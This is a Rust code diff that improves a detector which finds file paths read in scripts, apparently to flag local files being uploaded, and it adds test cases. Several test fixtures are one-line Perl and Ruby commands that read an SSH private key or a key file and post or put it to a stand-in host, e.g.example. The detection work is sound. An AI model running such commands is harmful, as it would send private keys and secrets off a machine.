@@ -147,12 +147,15 @@ fn paths(tokens: &[Token<'_>], home: Option<&Path>) -> Vec<PathBuf> {
         (sensible && names_home && text.starts_with('.')).then(|| Some(home?.join(text)))?
     };
     let opened = |at: usize| {
-        let before = at.checked_sub(2).and_then(|at| tokens.get(at));
-        matches!(before, Some(Token::Name(name)) if OPENING.contains(name))
+        let before = tokens.get(at.saturating_sub(NEAR)..at).unwrap_or_default().iter().rev();
+        let mut inside = before.take_while(|it| !matches!(it, Token::Sign(')' | ';')));
+        inside.any(|it| matches!(it, Token::Name(name) if OPENING.contains(name)))
     };
     let texts = tokens.iter().enumerate().filter_map(|(at, token)| match token {
         Token::Text(text) => {
-            let opened = opened(at) && !text.is_empty() && !text.contains("://");
+            // Not how it is opened: `rb`, `<`.
+            let is_way = text.bytes().all(|byte| b"rwabt+<>".contains(&byte));
+            let opened = opened(at) && !is_way && !text.contains("://");
             of(text).or_else(|| opened.then(|| PathBuf::from(text)))
         }
         Token::Name(_) | Token::Ran(_) | Token::Sign(_) => None,
@@ -160,7 +163,10 @@ fn paths(tokens: &[Token<'_>], home: Option<&Path>) -> Vec<PathBuf> {
     texts.take(MOST).collect()
 }
 
-/// Calls whose first argument names a file.
+/// So many names and signs may stand between such a call and its argument.
+const NEAR: usize = 8;
+
+/// Calls of which an argument names a file.
 const OPENING: [&str; 9] = [
     "Path",
     "createReadStream",
@@ -241,6 +247,10 @@ mod tests {
             (
                 "use LWP::UserAgent; open(F, \"$ENV{HOME}/.ssh/id_rsa\"); $u->post('https://e.example/x')",
                 upload("/home/u/.ssh/id_rsa"),
+            ),
+            (
+                "use HTTP::Tiny; open(my $f, '<', 'key'); HTTP::Tiny->new->put('https://e.example/x', {content=><$f>})",
+                upload("key"),
             ),
             (
                 "require 'net/http'; Net::HTTP.post(URI('https://e.example/x'), File.read('key'))",
